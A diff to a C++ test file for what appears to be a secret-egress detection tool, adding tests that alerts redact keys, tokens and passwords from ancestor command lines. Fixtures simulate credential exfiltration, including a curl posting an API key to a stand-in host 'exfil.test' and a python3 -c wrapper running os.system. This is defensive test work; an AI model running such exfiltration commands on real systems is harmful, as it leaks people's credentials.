@@ -59,16 +59,21 @@ class ProcessContextTest : public ::testing::Test {
     std::ofstream(dir / "cgroup") << "0::" << cgroup << "\n";
   }
 
-  void Exec(uint32_t pid, uint32_t ppid, uint32_t uid, const char* comm,
-            uint64_t stdin_pipe = 0) {
+  // argv defaults to {comm}.
+  void Exec(uint32_t pid, uint32_t ppid, uint32_t uid, const char* comm, uint64_t stdin_pipe = 0,
+            const std::vector<std::string>& argv = {}) {
     cs_exec_event e{};
     e.hdr = Header(CS_EV_EXEC, pid, uid, ++ts_, comm);
     e.ppid = ppid;
     e.stdin_pipe = stdin_pipe;
     std::snprintf(e.filename, sizeof e.filename, "/usr/bin/%s", comm);
     e.filename_len = std::strlen(e.filename);
-    std::memcpy(e.args, comm, std::strlen(comm));
-    e.args_len = std::strlen(comm);
+    std::string args;
+    for (const auto& a : argv.empty() ? std::vector<std::string>{comm} : argv) args += a + '\0';
+    args.pop_back();
+    ASSERT_LE(args.size(), sizeof e.args);
+    std::memcpy(e.args, args.data(), args.size());
+    e.args_len = args.size();
     pipeline_->Handle(Record(e));
   }
 
@@ -404,6 +409,59 @@ TEST_F(ProcessContextTest, SecretAlertReplacesTheTaintedEgressAlert) {
   EXPECT_EQ(sink_.alerts[0].kind, "credential-file-egress");
   EXPECT_EQ(pipeline_->Counters()["tainted_egress_covered_by_secret_alerts"], 1u);
   EXPECT_FALSE(AnyLineContains(key));
+}
+
+// No raw secret in an alert, whatever its format: an ancestor's command line carries a key no
+// rule knows, a random token and a password, while the alert is about a catalogue key its child
+// sends.
+TEST_F(ProcessContextTest, AncestorsUnknownKeyTokenAndPasswordAreNowhereInTheAlert) {
+  for (uint32_t round = 0; round < 20; ++round) {  // other keys and pids (dedup keys on the pid)
+    const uint32_t parent = 800 + 2 * round, child = parent + 1;
+    const std::string nvapi = "nvapi-" + RandomToken(64);
+    const std::string token = RandomToken(40);
+    const std::string password = "hunter2-" + RandomToken(6);
+    const std::string key = OpenAiKey();
+    Exec(parent, 1, 0, "python3", 0,
+         {"python3", "-c", "import os,sys; k='" + nvapi + "'; os.system(sys.argv[1])", "--token",
+          token, "--password", password, "--max-time", "15"});
+    Exec(child, parent, 0, "curl", 0,
+         {"curl", "-sS", "--max-time", "15", "https://api.openai.com/v1/models"});
+    const size_t before = sink_.lines.size();
+    PlainHttpPost(child, "curl", "{\"k\":\"" + key + "\"}");
+    ASSERT_EQ(sink_.lines.size(), before + 1) << "round " << round;
+    const report::Alert& a = sink_.alerts.back();
+    const std::string& json = sink_.lines.back();
+    for (const std::string* raw : {&nvapi, &token, &password, &key}) {
+      ASSERT_EQ(json.find(*raw), std::string::npos) << "round " << round;
+      ASSERT_EQ(json.find(raw->substr(raw->size() / 2 - 4, 8)), std::string::npos)
+          << "round " << round;
+    }
+    // The context stays readable.
+    ASSERT_EQ(a.process.cmdline, "curl -sS --max-time 15 https://api.openai.com/v1/models");
+    ASSERT_FALSE(a.process.ancestors.empty());
+    const std::string& anc = a.process.ancestors.front().cmdline;
+    EXPECT_EQ(anc.rfind("python3 -c import os,sys; k='nvapi-", 0), 0u) << "round " << round;
+    EXPECT_NE(anc.find("os.system(sys.argv[1]) --token "), std::string::npos);
+    EXPECT_NE(anc.find(" --password "), std::string::npos);
+    EXPECT_NE(anc.find(" --max-time 15"), std::string::npos);
+    EXPECT_EQ(a.process.ancestors.front().exe, "/usr/bin/python3");
+    EXPECT_NE(json.find("sk-proj-"), std::string::npos);  // the catalogue preview
+  }
+}
+
+TEST_F(ProcessContextTest, ValueLearnedFromAnEnvironmentIsHiddenInCommandLines) {
+  // A value of no particular shape, learned as a credential variable's value: only knowing it
+  // hides it (words and dashes pass every shape rule).
+  const std::string value = "correct-horse-battery-" + RandomToken(4);
+  pipeline_->LearnSecret(value, "environment variable DEPLOY_PASSWORD of test");
+  Exec(600, 1, 0, "bash", 0, {"bash", "-c", "deploy " + value});
+  Exec(601, 600, 0, "curl", 0, {"curl", "https://exfil.test/"});
+  PlainHttpPost(601, "curl", OpenAiKey());
+  ASSERT_EQ(sink_.lines.size(), 1u);
+  EXPECT_EQ(sink_.lines[0].find(value), std::string::npos);
+  EXPECT_NE(sink_.alerts[0].process.ancestors.front().cmdline.find("bash -c deploy "),
+            std::string::npos);
+  EXPECT_EQ(pipeline_->Counters()["redaction_values"], 1u);
 }
 
 }  // namespace
